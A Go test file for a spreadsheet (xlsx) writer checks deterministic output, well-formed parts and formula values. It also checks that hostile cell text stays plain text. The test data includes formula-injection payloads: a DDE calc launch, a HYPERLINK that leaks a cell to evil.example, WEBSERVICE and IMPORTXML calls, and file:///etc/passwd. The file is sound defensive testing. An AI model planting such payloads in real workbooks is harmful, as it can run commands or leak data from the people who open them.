package write

import (
	"bytes"
	"encoding/xml"
	"errors"
	"flag"
	"fmt"
	"io"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"ziping/model"
	"ziping/xlsx/write/kit"
	"ziping/xlsx/write/mend"
)

var writtenTo = flag.String("written", "", "folder to keep the written workbooks in, to look at them")

func yes(s string) decimal.NullDecimal {
	return decimal.NewNullDecimal(decimal.RequireFromString(s))
}

// written runs write twice and returns the bytes, which must be the same.
func written(t *testing.T, name string, write func(io.Writer) error) []byte {
	t.Helper()
	var a, b bytes.Buffer
	if err := errors.Join(write(&a), write(&b)); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Errorf("%s: two runs wrote different bytes", name)
	}
	if *writtenTo != "" {
		if err := os.WriteFile(filepath.Join(*writtenTo, name), a.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return a.Bytes()
}

// opened opens a workbook with excelize, after every part of it has been found
// to be well-formed.
func opened(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	parts, err := kit.Unpack(data)
	if err != nil {
		t.Fatal(err)
	}
	for name, part := range parts {
		d := xml.NewDecoder(bytes.NewReader(part))
		for {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
		if bytes.Contains(part, []byte("xuri")) {
			t.Errorf("%s names the library", name)
		}
	}
	if !bytes.Contains(parts["docProps/app.xml"], []byte("<Application>ziping</Application>")) {
		t.Error("the workbook does not say that ziping wrote it")
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// rawRows are the values of a sheet as they are stored.
func rawRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// checkFormulas calculates every formula and compares with the stored value.
func checkFormulas(t *testing.T, f *excelize.File) (formulas int) {
	t.Helper()
	for _, sheet := range f.GetSheetList() {
		for r, row := range rawRows(t, f, sheet) {
			for c, stored := range row {
				formula, err := f.GetCellFormula(sheet, kit.Ref(c, r+1))
				if err != nil {
					t.Fatal(err)
				}
				if formula == "" {
					continue
				}
				formulas++
				got, err := f.CalcCellValue(sheet, kit.Ref(c, r+1), excelize.Options{RawCellValue: true})
				if err != nil {
					t.Errorf("%s!%s: %s: %v", sheet, kit.Ref(c, r+1), formula, err)
				}
				x, errX := strconv.ParseFloat(got, 64)
				y, errY := strconv.ParseFloat(stored, 64)
				if errX != nil || errY != nil || math.Abs(x-y) > 1e-9*max(1, math.Abs(y)) {
					t.Errorf("%s!%s: %s is %s, stored %s", sheet, kit.Ref(c, r+1), formula, got, stored)
				}
			}
		}
	}
	return formulas
}

var hostileTexts = func() []string {
	texts := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"点我")`, `=IMPORTXML(CONCAT("http://evil.example"),"//a")`,
		`=WEBSERVICE("http://evil.example")`, `@=cmd`, `'=1+1`, `"=1+1"`, "{=1+1}", "=DDE(\"cmd\";\"/C calc\";\"x\")",
		"http://evil.example", "mailto:x@evil.example", "file:///etc/passwd", `\\evil.example\share`,
		"<script>alert(1)</script>", "</t></is></c>", "&amp;&#x3D;1", "]]>", "<hyperlinks>", "_x003D_1+1", "_x000D_",
		"a\x00b", "\x1b[31m", "\x0b\x0c\x1f", "\x7f\u0085", "\ufffe\uffff", "\xff\xfe坏", "金额\u202e00.001", "1\u200b2\ufeff3",
		"👨\u200d👩\u200d👧 𠮷", strings.Repeat("长", 40_000), strings.Repeat("x", 32_768), "&P&N", "", " ",
	}
	return texts
}()

func hostileRow(text string) mend.Row {
	return mend.Row{Severity: "error", Rule: text, RuleTitle: text, File: text, Sheet: text, Cell: "B2", Got: text, Want: text, Gap: text, Done: text, Signed: text,
		Message: text, Hint: text, Related: text, Waived: text}
}

// Whatever a text begins with, it is stored as text and leads nowhere.
func TestHostileTextStaysText(t *testing.T) {
	var r Rollup
	for _, text := range hostileTexts {
		r.Title += text
		r.Units = append(r.Units, RollupUnit{Name: text, Status: text, Report: text, ExecutionRate: yes("0.5")})
		r.Allotments = append(r.Allotments, RollupAllotment{Unit: text, Verdict: text})
		r.Findings = append(r.Findings, mend.Unit{Name: text, Dir: text, Rows: []mend.Row{hostileRow(text)}})
	}
	data := written(t, "hostile.xlsx", func(w io.Writer) error { return r.Write(w) })
	f := opened(t, data)
	checkFormulas(t, f)
	rows := rawRows(t, f, "问题清单")
	listed := func(n int) int { // a long text goes on in rows below
		return 1 + slices.IndexFunc(rows, func(r []string) bool { return len(r) > 0 && r[0] == strconv.Itoa(n) })
	}
	for i, text := range hostileTexts {
		for _, at := range []struct{ sheet, cell string }{
			{"汇总", kit.Ref(nameColumn, firstUnitRow+i)},
			{"资金核对", kit.Ref(verdictColumn, firstUnitRow+i)},
			{"问题清单", kit.Ref(4, listed(i+1))},
		} {
			kind, err := f.GetCellType(at.sheet, at.cell)
			if err != nil {
				t.Fatal(err)
			}
			formula, _ := f.GetCellFormula(at.sheet, at.cell)
			got, _ := f.GetCellValue(at.sheet, at.cell, excelize.Options{RawCellValue: true})
			if text != "" && at.sheet != "资金核对" && kind != excelize.CellTypeInlineString || formula != "" {
				t.Errorf("%q at %v: type %v, formula %q", text, at, kind, formula)
			}
			if want := model.Visible(text); at.sheet != "资金核对" && len([]rune(want)) <= 2000 && got != want {
				t.Errorf("%q at %v became %q", text, at, got)
			}
		}
	}
}

// links are the hyperlinks of a sheet part: cell to mode, target, location.
func links(t *testing.T, data []byte, sheet string) map[string]string {
	t.Helper()
	parts, err := kit.Unpack(data)
	if err != nil {
		t.Fatal(err)
	}
	var rels struct {
		Relationship []struct {
			ID     string `xml:"Id,attr"`
			Target string `xml:"Target,attr"`
			Mode   string `xml:"TargetMode,attr"`
		}
	}
	if part := parts["xl/worksheets/_rels/"+sheet+".rels"]; part != nil {
		if err := xml.Unmarshal(part, &rels); err != nil {
			t.Fatal(err)
		}
	}
	var ws struct {
		Hyperlinks struct {
			Hyperlink []struct {
				Ref      string `xml:"ref,attr"`
				ID       string `xml:"http://schemas.openxmlformats.org/officeDocument/2006/relationships id,attr"`
				Location string `xml:"location,attr"`
			} `xml:"hyperlink"`
		} `xml:"hyperlinks"`
	}
	if err := xml.Unmarshal(parts["xl/worksheets/"+sheet], &ws); err != nil {
		t.Fatal(err)
	}
	targets := map[string]string{}
	for _, r := range rels.Relationship {
		targets[r.ID] = r.Mode + " " + r.Target
	}
	out := map[string]string{}
	for _, l := range ws.Hyperlinks.Hyperlink {
		out[l.Ref] = fmt.Sprintf("%s#%s", targets[l.ID], l.Location)
	}
	return out
}

func diff(t *testing.T, what string, got, want any) {
	t.Helper()
	if d := cmp.Diff(got, want); d != "" {
		t.Errorf("%s (-got +want):\n%s", what, d)
	}
}
